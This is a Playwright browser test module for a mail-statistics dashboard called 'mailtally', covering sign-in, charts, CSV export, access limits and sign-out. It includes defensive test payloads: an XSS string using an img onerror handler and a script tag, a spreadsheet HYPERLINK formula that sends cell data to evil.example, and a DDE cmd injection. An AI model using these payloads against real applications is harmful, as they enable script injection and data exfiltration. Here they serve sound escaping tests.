"""The dashboard in a real browser (issue 12): Playwright (PyPI) driving Debian's
Chromium (``/usr/bin/chromium``, headless; never ``playwright install``) against
a real ``mailtally serve`` over a store made by ``mailtally demo``.

One server and one browser for the module; the tests share a page where they
can.  Each main view is saved as a screenshot in ``test-screenshots/`` at the
repository's root (git-ignored; README "Dashboard")."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from test_nodes import Node

CHROMIUM = "/usr/bin/chromium"
if not Path(CHROMIUM).exists():
    pytest.skip(
        "browser tests need Debian's Chromium: apt-get install chromium", allow_module_level=True
    )
sync_api = pytest.importorskip("playwright.sync_api")

BIN = Path(sys.executable).parent
SHOTS = Path(__file__).resolve().parent.parent / "test-screenshots"
ADMIN = ("admin@example.com", "demo-password")
DOMAIN_ADMIN = ("postmaster@example.net", "demo-password")
OPERATOR = ("ops", "operator-password")
#: a workgroup name that would run if the page wrote names as HTML
HOSTILE = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2'  # (no "/")
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


@pytest.fixture(scope="module")
def server(tmp_path_factory) -> Iterator[Node]:
    work = tmp_path_factory.mktemp("dashboard")
    config = work / "mailtally.toml"
    config.write_text(
        "[auth]\nargon2_time_cost = 1\nargon2_memory_kib = 64\nargon2_parallelism = 1\n"
    )
    db = f"sqlite:///{work / 'demo.sqlite3'}"
    env = {k: v for k, v in os.environ.items() if not k.startswith("MAILTALLY_")}
    subprocess.run(
        [str(BIN / "mailtally"), "--config", str(config), "demo", "--db", db],
        check=True,
        env=env,
        capture_output=True,
    )
    subprocess.run(
        [
            str(BIN / "mailtally"),
            "--config",
            str(config),
            "operator",
            "add",
            OPERATOR[0],
            "--db",
            db,
        ],
        input=OPERATOR[1] + "\n",
        text=True,
        check=True,
        env=env,
        capture_output=True,
    )
    node = Node(work, db, config, "serve")
    node.wait_ready()
    admin = {"user": ADMIN[0], "password": ADMIN[1]}
    answer = node.call("create_workgroup", admin, domain="example.net", workgroup=HOSTILE)
    assert answer["success"], answer
    yield node
    node.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    shutil.rmtree(SHOTS, ignore_errors=True)
    SHOTS.mkdir()
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=ARGS)
        b.new_context = _quick(b.new_context)
        yield b
        b.close()


def _quick(new_context: Any) -> Any:
    """Contexts whose waits give up after 10 s (a test fails fast, not at 30 s)."""

    def make(**kw: Any) -> Any:
        context = new_context(**kw)
        context.set_default_timeout(10_000)
        return context

    return make


@pytest.fixture(scope="module")
def admin_page(browser, server) -> Iterator[Any]:
    """A page signed in as the demo's company admin (shared by the tests below)."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    sign_in(page, server, *ADMIN)
    page.errors = errors  # type: ignore[attr-defined]
    yield page
    context.close()
    assert errors == [], errors


def base(server: Node) -> str:
    return f"http://127.0.0.1:{server.port}/"


def sign_in(page: Any, server: Node, user: str, password: str, hash_: str = "") -> None:
    page.goto(base(server) + hash_)
    page.fill("#user", user)
    page.fill("#password", password)
    page.click("#signin-button")


def shot(page: Any, name: str) -> None:
    page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)


def table(page: Any, selector: str) -> list[list[str]]:
    """A shown table's cells as text, header row first."""
    rows: list[list[str]] = page.eval_on_selector_all(
        f"{selector} tr", "rs => rs.map(r => [...r.children].map(c => c.textContent))"
    )
    return rows


def numbers_of(page: Any, selector: str) -> list[list[str]]:
    """A shown table as its cells' exact values (the shown text with the digit
    grouping taken off), header row first."""
    return [[c.replace(",", "") if c.replace(",", "").isdigit() else c for c in r]
            for r in table(page, selector)]  # fmt: skip


def test_sign_in_shows_the_company_with_a_chart_per_group(admin_page) -> None:
    page = admin_page
    page.wait_for_selector("#domains-table tbody tr")
    assert page.text_content("#title") == "Example Hosting"
    assert "#/company/Example%20Hosting?period=day" in page.url
    groups = page.eval_on_selector_all(".chart", "cs => cs.map(c => c.dataset.group)")
    assert groups == ["Messages", "Bytes", "Logins", "Storage", "Users", "Services enabled"]
    assert page.locator(".chart canvas").count() == 6
    # readable axes: period labels under the x axis
    assert page.locator(".chart .u-axis").count() >= 12
    # hover: the legend shows the period and values under the cursor
    box = page.locator(".chart").first.locator(".u-over").bounding_box()
    page.mouse.move(box["x"] + box["width"] - 3, box["y"] + box["height"] / 2)
    legend = page.locator(".chart").first.locator(".u-legend").text_content()
    assert "20" in legend and "ham" in legend
    domains = [r[0] for r in table(page, "#domains-table tbody")]
    assert sorted(domains) == ["example.com", "example.net", "example.org"]
    shot(page, "company-day")


def _demo_months() -> int:
    """The months a company summary of the demo shows: from the month the demo's
    history begins (425 days before its build, today: demo.py) to this one
    (14 or 15, by the day of the month)."""
    from datetime import UTC, datetime, timedelta

    today = datetime.now(UTC)
    start = today - timedelta(days=425)
    return (today.year - start.year) * 12 + today.month - start.month + 1


def test_switch_day_week_month(admin_page) -> None:
    page = admin_page
    rows = {"day": 30, "week": 52, "month": _demo_months()}
    for period, first_key in (("week", "week of "), ("month", "20"), ("day", "20")):
        page.click(f"#periods button[data-period={period}]")
        page.wait_for_url(f"**period={period}")
        page.wait_for_selector(f"#periods button[data-period={period}][aria-pressed=true]")
        page.wait_for_function(
            "n => document.querySelectorAll('#numbers-table tbody tr').length === n",
            arg=rows[period],
        )
        first = table(page, "#numbers-table tbody")[0][0]
        assert first.startswith(first_key)
        if period == "month":
            assert len(first) == 7  # YYYY-MM
            shot(page, "company-month")


def test_table_view_and_csv_download(admin_page) -> None:
    page = admin_page
    page.click("#periods button[data-period=week]")
    page.wait_for_url("**period=week")
    page.wait_for_function(
        "() => document.querySelectorAll('#numbers-table tbody tr').length === 52"
    )
    page.click("#toggle-table")
    assert page.is_visible("#numbers-table")
    shot(page, "company-week-table")
    shown = table(page, "#numbers-table")
    with page.expect_download() as d:
        page.click("#csv")
    download = d.value
    assert download.suggested_filename == "mailtally_Example-Hosting_summary_week.csv"
    rows = list(csv.reader(io.StringIO(Path(download.path()).read_text())))
    assert rows[0] == shown[0]
    assert len(rows) == len(shown) == 53
    periods = page.eval_on_selector_all(
        "#numbers-table tbody tr td:first-child", "ts => ts.map(t => t.dataset.value)"
    )
    for row, shown_row, key in zip(rows[1:], shown[1:], periods, strict=True):
        assert row[0] == key  # the period's key (YYYYMMDD-YYYYMMDD)
        assert row[1:] == [c.replace(",", "") for c in shown_row[1:]]
    assert any(int(v) > 0 for r in rows[1:] for v in r[1:])
    page.click("#toggle-table")
    # the domains' CSV too
    with page.expect_download() as d:
        page.click("#lists button.csv[data-table=domains-table]")
    rows = list(csv.reader(io.StringIO(Path(d.value.path()).read_text())))
    assert rows == numbers_of(page, "#domains-table")


def test_drill_down_and_back(admin_page) -> None:
    page = admin_page
    page.click("#periods button[data-period=day]")
    page.wait_for_url("**period=day")
    page.wait_for_selector("#domains-table tbody tr")
    # sortable: by users, highest first, then again lowest first
    page.click("#domains-table th:nth-child(2) button")
    users = [int(r[1].replace(",", "")) for r in table(page, "#domains-table tbody")]
    assert users == sorted(users, reverse=True) and users[0] > users[-1]
    page.click("#domains-table th:nth-child(2) button")
    users = [int(r[1].replace(",", "")) for r in table(page, "#domains-table tbody")]
    assert users == sorted(users)
    page.click("#domains-table a:text-is('example.com')")
    page.wait_for_url("**/domain/example.com?period=day")
    page.wait_for_selector("#users-table tbody tr")
    assert page.text_content("#title") == "example.com"
    total = int(page.text_content("#users-count").rpartition(" of ")[2].replace(",", ""))
    assert total > 100
    first_page = [r[0] for r in table(page, "#users-table tbody")]
    assert len(first_page) == 50 and first_page == sorted(first_page)
    page.click("#users-next")
    page.wait_for_function(
        "() => document.querySelector('#users-count').textContent.startsWith('51')"
    )
    second = [r[0] for r in table(page, "#users-table tbody")]
    assert second[0] > first_page[-1]
    # search
    page.fill("#user-search", "alice")
    page.wait_for_function(
        "() => [...document.querySelectorAll('#users-table tbody tr td:first-child')]"
        ".every(t => t.textContent.includes('alice'))"
    )
    # the top users are of the newest day with mail counted, even when today has none yet
    page.wait_for_selector("#top-table tbody tr", state="attached")
    top = table(page, "#top-table tbody")
    assert top and all(int(r[1]) > 0 for r in top)
    assert [int(r[1]) for r in top] == sorted((int(r[1]) for r in top), reverse=True)
    shot(page, "domain-day")
    page.click("#users-table a:text-is('alice@example.com')")
    page.wait_for_url("**/user/alice%40example.com?period=day")
    page.wait_for_selector("#numbers-table tbody tr", state="attached")
    assert page.text_content("#title") == "alice@example.com"
    groups = page.eval_on_selector_all(".chart", "cs => cs.map(c => c.dataset.group)")
    assert groups == ["Messages", "Bytes", "Logins", "Storage"]
    shot(page, "user-day")
    page.go_back()
    page.wait_for_url("**/domain/example.com?period=day")
    page.wait_for_selector("#users-table tbody tr")
    assert page.text_content("#title") == "example.com"
    page.click("#crumbs a:text-is('Example Hosting')")
    page.wait_for_selector("#domains-table tbody tr")
    assert page.text_content("#title") == "Example Hosting"


def test_a_name_is_shown_as_text_and_not_run(browser, server) -> None:
    # without the CSP's help (bypass_csp): the page's own escaping alone
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    sign_in(page, server, *ADMIN, hash_="#/company/Example%20Hosting/domain/example.net?period=day")
    page.wait_for_selector("#workgroups-table tbody tr")
    names = [r[0] for r in table(page, "#workgroups-table tbody")]
    assert HOSTILE in names
    assert page.evaluate("window.__pwned") is None
    assert page.locator("#workgroups-table img").count() == 0
    assert page.locator("#lists script").count() == 0
    shot(page, "domain-hostile-name")
    context.close()


#: names a domain's admin may choose that a spreadsheet would run as formulas
FORMULA_WORKGROUP = '=HYPERLINK("http:evil.example?"&A2,"x")'
FORMULA_USER = "=cmd|'-ccalc'!a0@example.org"


def test_names_like_formulas_stay_text_in_every_csv(browser, server) -> None:
    """A workgroup and an address that begin like formulas (session 15): the
    dashboard's own CSVs (users, workgroups) keep them as text behind a ``'``,
    as the stats_snapshot CSV does (tests/test_attack_chains2.py)."""
    admin = {"user": ADMIN[0], "password": ADMIN[1]}
    attributes = {"password": "x-password-1", "workgroup": FORMULA_WORKGROUP}
    for method, body in (
        ("create_workgroup", {"domain": "example.org", "workgroup": FORMULA_WORKGROUP}),
        ("change_user", {"user": FORMULA_USER, "attributes": attributes}),
    ):
        answer = server.call(method, admin, **body)
        assert answer["success"], answer
    context = browser.new_context(accept_downloads=True)
    page = context.new_page()
    sign_in(page, server, *ADMIN, hash_="#/company/Example%20Hosting/domain/example.org?period=day")
    page.fill("#user-search", "cmd")
    page.wait_for_function(
        "() => [...document.querySelectorAll('#users-table tbody tr td:first-child')]"
        ".map(t => t.textContent).join() === " + repr(FORMULA_USER)
    )
    page.wait_for_selector("#workgroups-table tbody tr")
    cells: list[str] = []
    for table_id in ("users-table", "workgroups-table"):
        with page.expect_download() as d:
            page.click(f"#lists button.csv[data-table={table_id}]")
        cells += [c for r in csv.reader(io.StringIO(Path(d.value.path()).read_text())) for c in r]
    assert "'" + FORMULA_USER in cells and "'" + FORMULA_WORKGROUP in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c.lstrip("-").isdigit()]
    context.close()


def test_a_wrong_password_shows_the_error(browser, server) -> None:
    context = browser.new_context()
    page = context.new_page()
    sign_in(page, server, ADMIN[0], "not-the-password")
    page.wait_for_function("() => document.querySelector('#signin-error').textContent !== ''")
    assert "credentials" in page.text_content("#signin-error").lower()
    assert page.is_visible("#signin") and not page.is_visible("#view")
    shot(page, "sign-in-error")
    context.close()


def test_a_domain_admin_cannot_reach_another_domain(browser, server) -> None:
    context = browser.new_context()
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    sign_in(page, server, *DOMAIN_ADMIN)
    page.wait_for_url("**/domain/example.net?period=day")
    page.wait_for_selector("#users-table tbody tr")
    assert page.text_content("#title") == "example.net"
    # its widest scope is its domain: no crumb to the company
    assert page.eval_on_selector_all("#crumbs a", "as => as.map(a => a.textContent)") == [
        "example.net"
    ]
    # another domain, by editing the URL's hash
    page.evaluate("location.hash = '#/company/Example%20Hosting/domain/example.com?period=day'")
    page.wait_for_function("() => document.querySelector('#error').textContent !== ''")
    assert "does not exist" in page.text_content("#error")
    assert page.locator(".chart").count() == 0 and page.locator("#users-table").count() == 0
    # nor the company
    page.evaluate("location.hash = '#/company/Example%20Hosting?period=day'")
    page.wait_for_function(
        "() => document.querySelector('#title').textContent === 'Example Hosting'"
    )
    page.wait_for_function("() => document.querySelector('#error').textContent !== ''")
    assert page.locator("#domains-table").count() == 0
    shot(page, "domain-admin-refused")
    # a malformed escape in the hash is the caller's home, not a blank page
    page.evaluate("location.hash = '#/company/%E0'")
    page.wait_for_function("() => document.querySelector('#title').textContent === 'example.net'")
    # the token never went into a URL
    assert all("token" not in u and "password" not in u for u in requests)
    context.close()


def test_phone_width(browser, server) -> None:
    context = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True)
    page = context.new_page()
    sign_in(
        page, server, *ADMIN, hash_="#/company/Example%20Hosting/domain/example.com?period=week"
    )
    page.wait_for_selector("#users-table tbody tr")
    # nothing wider than the screen but the tables' own scrolling boxes
    width = page.evaluate("document.documentElement.scrollWidth")
    assert width <= 390
    for c in page.locator(".chart").all():
        assert c.bounding_box()["width"] <= 390
    shot(page, "phone-domain-week")
    context.close()


def test_an_operator_starts_from_the_companies(browser, server) -> None:
    context = browser.new_context()
    page = context.new_page()
    sign_in(page, server, *OPERATOR)
    page.wait_for_url("**#/companies?period=day")
    page.wait_for_selector("#companies-table tbody tr")
    assert page.text_content("#title") == "Companies"
    assert table(page, "#companies-table tbody")[0][0] == "Example Hosting"
    shot(page, "operator-companies")
    page.click("#companies-table a:text-is('Example Hosting')")
    page.wait_for_selector("#domains-table tbody tr")
    assert page.text_content("#title") == "Example Hosting"
    crumbs = page.eval_on_selector_all("#crumbs a", "as => as.map(a => a.textContent)")
    assert crumbs == ["companies", "Example Hosting"]
    context.close()


def _signed_in_with_token(browser: Any, server: Node) -> tuple[Any, Any, str]:
    """A fresh context signed in as the company admin: (context, page, the
    session token the page was given)."""
    context = browser.new_context()
    page = context.new_page()
    tokens: list[str] = []

    def answered(response: Any) -> None:
        if response.url.endswith("/api/authenticate") and not tokens:
            tokens.append(response.json().get("session_token", ""))

    page.on("response", answered)
    sign_in(page, server, *ADMIN)
    page.wait_for_selector("#signout", state="visible")
    assert tokens and tokens[0], tokens
    return context, page, tokens[0]


def test_sign_out_ends_its_own_session_token_and_no_other(browser, server) -> None:
    """Sign out ends the tab's session token on the server, not only in the tab
    (a copied token stops working), and leaves the user's other sessions."""
    import time

    mine, page, token = _signed_in_with_token(browser, server)
    other, _, kept = _signed_in_with_token(browser, server)
    as_token = {"user": ADMIN[0], "token": token}
    assert server.call("get_user", as_token, user=ADMIN[0])["success"]
    with page.expect_response(lambda r: r.url.endswith("/api/authenticate")):
        page.click("#signout")
    page.wait_for_selector("#signin", state="visible")
    time.sleep(2.1)  # (the token was made again for one second)
    answer = server.call("get_user", as_token, user=ADMIN[0])
    assert answer["success"] is False and answer["error_number"] == 1, answer
    assert server.call("get_user", {"user": ADMIN[0], "token": kept}, user=ADMIN[0])["success"]
    mine.close()
    other.close()


def test_lists_longer_than_a_search_answer_are_shown_whole(browser, server) -> None:
    """A provider has more companies, and a reseller more domains, than one search
    answers (1,000): the lists read every page.  (Last in the file: the names it
    adds sort after the demo's, and the server is the module's.)"""
    ops = {"user": OPERATOR[0], "password": OPERATOR[1]}
    for i in range(1001):
        answer = server.call("change_company", ops, company=f"Zz {i:04d}", create_only=True)
        assert answer["success"], answer
    for i in range(1001):
        answer = server.call("change_domain", ops, domain=f"d{i:04d}.zz.example", company="Zz 0000")
        assert answer["success"], answer
    context = browser.new_context()
    page = context.new_page()
    sign_in(page, server, *OPERATOR)
    page.wait_for_selector("#companies-table tbody tr")
    companies = [r[0] for r in table(page, "#companies-table tbody")]
    assert len(companies) == 1002  # the demo's company and the 1,001
    assert companies[0] == "Example Hosting" and companies[-1] == "Zz 1000"
    assert "Companies (1,002)" in page.text_content("#lists")
    page.click("#companies-table a:text-is('Zz 0000')")
    page.wait_for_selector("#domains-table tbody tr")
    domains = table(page, "#domains-table tbody")
    assert len(domains) == 1001 and "Domains (1,001)" in page.text_content("#lists")
    # no mail counted in them: every key figure is a zero, none unknown
    assert {cell for row in domains for cell in row[2:]} == {"0"}
    context.close()
